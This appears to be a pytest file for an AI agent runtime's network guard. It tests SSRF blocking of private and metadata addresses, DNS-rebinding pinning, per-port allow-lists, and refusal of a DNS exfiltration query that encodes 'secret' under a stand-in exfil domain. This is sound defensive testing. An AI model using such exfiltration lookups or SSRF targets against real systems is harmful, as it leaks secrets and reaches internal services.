"""The host policy: public ranges under `*`, host:port entries, one resolution pinned for the connection.

Only 127.0.0.1 is ever connected to; names are resolved by a fake resolver in process.
"""

import ipaddress
import socket

import pytest

from agentstage.runtime.errors import ToolError
from agentstage.runtime.tools import hosts
from agentstage.runtime.tools.builtin import builtin_registry
from agentstage.runtime.tools.context import ToolContext
from agentstage.runtime.tools.hosts import HostPolicy, is_public
from tests.local_dns import LocalDNS

NON_PUBLIC = ["127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
              "100.127.255.254", "0.0.0.0", "224.0.0.251", "239.255.255.250", "240.0.0.1", "255.255.255.255",
              "192.0.2.10", "198.51.100.1", "203.0.113.9", "198.18.0.1", "192.0.0.8",
              "::", "::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1", "::10.0.0.1", "fe80::1",
              "fec0::1", "fc00::1", "fd12:3456::1", "ff02::1", "ff0e::1", "2001:db8::1", "2001::1", "100::1",
              "64:ff9b::7f00:1", "64:ff9b::a00:1", "2002:7f00:1::1", "2002:a00:1::1", "3fff::1"]


@pytest.mark.parametrize("address", NON_PUBLIC)
def test_star_refuses_every_non_public_range(address) -> None:
    assert not is_public(ipaddress.ip_address(address))
    with pytest.raises(ToolError, match="non-public"):
        HostPolicy(["*"]).resolve("curl", address, 80)


@pytest.mark.parametrize("address", ["93.184.216.34", "1.1.1.1", "2606:4700:4700::1111",
                                     "64:ff9b::808:808"])
def test_public_addresses_pass_under_star(address) -> None:
    assert HostPolicy(["*"]).resolve("curl", address, 443) == [address]


@pytest.fixture
def resolver(monkeypatch):
    """A fake getaddrinfo for names: answers from `answers[name]`, one answer list per call, records each call;
    address literals go to the real one (no lookup)."""
    calls: list[str] = []
    answers: dict[str, list[list[str]]] = {}
    real = socket.getaddrinfo

    def getaddrinfo(host, port, *args, **kwargs):
        try:
            ipaddress.ip_address(host)
            return real(host, port, *args, **kwargs)
        except ValueError:
            calls.append(host)
        queue = answers.get(host)
        if not queue:
            raise socket.gaierror(socket.EAI_NONAME, "unknown name")
        return [(socket.AF_INET6 if ":" in a else socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, port))
                for a in queue.pop(0)]

    monkeypatch.setattr(hosts.socket, "getaddrinfo", getaddrinfo)
    return calls, answers


def test_a_failed_lookup_is_refused(resolver) -> None:
    with pytest.raises(ToolError, match="does not resolve"):
        HostPolicy(["*"]).resolve("curl", "nowhere.test", 80)


def test_a_name_under_star_with_any_private_answer_is_refused(resolver) -> None:
    resolver[1]["mixed.test"] = [["93.184.216.34", "10.0.0.1"]]
    with pytest.raises(ToolError, match="non-public address 10.0.0.1"):
        HostPolicy(["*"]).resolve("curl", "mixed.test", 80)


def test_the_connection_goes_to_the_address_that_was_checked(tmp_path, http, resolver) -> None:
    calls, answers = resolver
    port = int(http.url.rsplit(":", 1)[1])
    # The first answer is checked and pinned; a second lookup (a rebinding client) would get nothing.
    answers["rebind.test"] = [["127.0.0.1"]]
    http.routes["/x"] = (200, {"ok": True})
    tools = builtin_registry(ToolContext(sandbox=tmp_path, allow_hosts=(f"rebind.test:{port}",)))
    result = tools.get("http_client")({"url": f"http://rebind.test:{port}/x"})
    assert result["status"] == 200 and calls == ["rebind.test"]
    assert http.requests[-1]["headers"]["Host"] == f"rebind.test:{port}"


def test_host_port_entries_allow_only_that_port(tmp_path, http) -> None:
    port = int(http.url.rsplit(":", 1)[1])
    http.routes["/x"] = (200, {"ok": True})
    http.routes["/hop"] = (302, f"http://127.0.0.1:{port + 1}/x")
    tools = builtin_registry(ToolContext(sandbox=tmp_path, allow_hosts=(f"127.0.0.1:{port}",)))
    assert tools.get("http_client")({"url": f"{http.url}/x"})["status"] == 200
    with pytest.raises(ToolError, match=f"'127.0.0.1:{port + 1}' is not on the tool allow-list"):
        tools.get("http_client")({"url": f"http://127.0.0.1:{port + 1}/x"})
    with pytest.raises(ToolError, match="is not on the tool allow-list"):
        tools.get("curl")({"url": f"{http.url}/hop"})
    with pytest.raises(ToolError, match="is not on the tool allow-list"):
        tools.get("network_utils")({"operation": "port_check", "host": "127.0.0.1", "port": port + 1})
    assert HostPolicy(["[::1]:8080"]).check_name("t", "::1", 8080) == "named"


def test_dns_lookup_obeys_the_allow_list(tmp_path) -> None:
    zone = {("ok.example.test.", "TXT"): ['"fine"'], ("c2VjcmV0.exfil.test.", "TXT"): ['"got it"']}
    tools = builtin_registry(ToolContext(sandbox=tmp_path, allow_hosts=("127.0.0.1", "*.example.test")))
    lookup = tools.get("dns_lookup")
    with LocalDNS(zone) as server:
        ask = {"record_type": "TXT", "server": "127.0.0.1", "port": server.port}
        assert lookup({"host": "ok.example.test", **ask})["records"] == ["fine"]
        with pytest.raises(ToolError, match="not on the tool allow-list"):
            lookup({"host": "c2VjcmV0.exfil.test", **ask})
    with pytest.raises(ToolError, match="not on the tool allow-list"):
        lookup({"host": "ok.example.test", "record_type": "TXT", "server": "10.0.0.53"})
    with pytest.raises(ToolError, match="not on the tool allow-list"):
        lookup({"host": "10.0.0.1", "record_type": "PTR"})
